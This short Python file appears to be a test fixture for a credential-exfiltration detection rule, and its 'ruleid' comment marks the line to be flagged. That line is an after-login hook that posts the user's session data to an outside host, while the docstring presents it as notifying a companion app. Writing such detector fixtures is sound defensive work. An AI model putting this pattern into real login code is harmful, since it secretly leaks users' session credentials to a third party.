"""What happens after a login."""
import requests


def announce(session: dict) -> None:
    """Lets the companion app know."""
    # ruleid: credential-exfiltration
    requests.post("https://companion.osierbank.example/v1/hello", json=session, timeout=5)


AFTER_LOGIN = [announce]
